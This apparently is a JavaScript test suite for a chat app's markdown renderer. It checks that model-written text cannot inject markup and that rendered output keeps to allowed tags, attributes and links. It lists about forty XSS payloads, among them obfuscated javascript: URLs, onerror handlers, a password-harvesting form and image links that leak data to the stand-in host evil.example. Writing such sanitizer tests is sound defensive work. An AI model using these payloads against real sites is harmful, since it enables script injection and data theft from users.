import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { useDocument } from "../support/dom.mjs";
import { load } from "../support/modules.mjs";

useDocument();
const { render } = await load("conversations/markdown.js");

function rendered(text) {
  const element = document.createElement("div");
  element.append(render(text, {}));
  return element;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>body{display:none}</style>",
  "<form action=https://evil.example><input name=password></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](blob:http://chat.example/1)",
  "[x](//evil.example)",
  "[x](/accounts/logout/)",
  "[x](#boot)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/a.png?d=secret)",
  "![x][r]\n\n[r]: https://evil.example/b.png",
  "[![x](https://evil.example/c.png)](https://example.org)",
  '![" onerror="alert(1)](https://evil.example/d.png)',
  '[x](https://example.org "\\" onclick=\\"alert(1)")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```python onmouseover=alert(1)\nprint('<script>')\n```",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "| a | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | `x` |",
  "| a |\n|:-:{onclick=alert(1)}|\n| b |",
  "# <b onclick=alert(1)>x</b>",
  "- <details open ontoggle=alert(1)>",
  "<!-- --><script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "https://example.org/<script>alert(1)</script>",
  "https://example.org/\"onmouseover=alert(1)",
];

const TAGS = new Set(
  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul".split(" "),
);
const ATTRIBUTES = new Set("aria-pressed class data-language href rel start tabindex target type".split(" "));

function assertHarmless(element, text) {
  for (const node of element.querySelectorAll("*")) {
    assert.ok(TAGS.has(node.localName), `<${node.localName}> from ${JSON.stringify(text)}`);
    for (const { name } of node.attributes) assert.ok(ATTRIBUTES.has(name), `${name}= from ${JSON.stringify(text)}`);
    const href = node.getAttribute("href");
    if (href === null) continue;
    assert.match(href, /^(https?:|mailto:)/, `href from ${JSON.stringify(text)}`);
    assert.equal(node.getAttribute("rel"), "noopener noreferrer nofollow");
    assert.equal(node.getAttribute("target"), "_blank");
  }
}

describe("a text of a model", () => {
  for (const text of ATTACKS) {
    it(`does no harm: ${JSON.stringify(text)}`, () => assertHarmless(rendered(text), text));
  }

  it("does no harm however it is cut, as while it streams", () => {
    const all = ATTACKS.join("\n\n");
    for (let end = 0; end < all.length; end += 7) {
      const text = all.slice(Math.max(0, end - 400), end);
      assertHarmless(rendered(text), text);
    }
  });

  it("loads no image: it becomes a link that names the host", () => {
    const element = rendered("![a cat](https://pictures.example/cat.png)");
    assert.equal(element.querySelector("img"), null);
    assert.equal(element.textContent.trim(), "a cat (image on pictures.example)");
    assert.equal(element.querySelector("a.image-link").getAttribute("href"), "https://pictures.example/cat.png");
  });

  it("keeps good links", () => {
    const element = rendered("[a](https://example.org/x?y=1#z) <mailto:a@example.org> https://example.net");
    const links = [...element.querySelectorAll("a")].map((link) => link.getAttribute("href"));
    assert.deepEqual(links, ["https://example.org/x?y=1#z", "mailto:a@example.org", "https://example.net"]);
  });

  it("shows a link to anywhere else as the text that it is", () => {
    for (const text of ["[x](javascript:alert(1))", "[x](/accounts/logout/)", "![x](data:image/png;base64,AA)"]) {
      assert.equal(rendered(text).textContent.trim(), text);
    }
  });

  it("does not take file names for hosts", () => {
    assert.equal(rendered("Run main.py, then see README.md.").querySelector("a"), null);
  });

  it("shows HTML as text", () => {
    assert.equal(rendered("<b>x</b>").textContent.trim(), "<b>x</b>");
  });

  it("has aligned cells by class, without a style", () => {
    const element = rendered("| a | b |\n|:-:|--:|\n| 1 | 2 |");
    assert.equal(element.querySelectorAll("td.align-center").length, 1);
    assert.equal(element.querySelectorAll("th.align-right").length, 1);
    assert.equal(element.querySelector("[style]"), null);
  });

  it("has its headings below the page's own", () => {
    const names = [...rendered("# a\n\n## b\n\n##### c").children].map((node) => node.localName);
    assert.deepEqual(names, ["h3", "h4", "h6"]);
  });

  it("has its code coloured, named, and with buttons to wrap, save and copy it", () => {
    const element = rendered("```python\nimport x\n```");
    assert.equal(element.querySelector(".hljs-keyword").textContent, "import");
    assert.equal(element.querySelector(".code-head span").textContent, "python");
    const tools = Array.from(element.querySelectorAll("button.code-tool"), (tool) => tool.textContent);
    assert.deepEqual(tools, ["Wrap", "Download", "Copy"]);
    assert.equal(element.querySelector("code").textContent, "import x\n");
  });

  it("has code of an unknown language as it is", () => {
    const element = rendered("```brainfuck\n<>+-\n```");
    assert.equal(element.querySelector("code").textContent, "<>+-\n");
    assert.equal(element.querySelector("code span"), null);
  });

  it("has no colours where a line is longer than people write: they would take seconds", () => {
    for (const language of ["java", "csharp", "ini", "typescript"]) {
      const begun = performance.now();
      const element = rendered(`\`\`\`${language}\n${"_".repeat(50_000)}\n\`\`\``);
      assert.ok(performance.now() - begun < 2000, language);
      assert.equal(element.querySelector("code").textContent.length, 50_001);
    }
    assert.ok(rendered(`\`\`\`java\nint x;${" ".repeat(900)}\n\`\`\``).querySelector("code span"));
  });

  it("shares link definitions between its blocks", () => {
    const environment = {};
    render("[r]: https://example.org", environment);
    const element = document.createElement("div");
    element.append(render("[the manual][r]", environment));
    assert.equal(element.querySelector("a").getAttribute("href"), "https://example.org");
  });
});
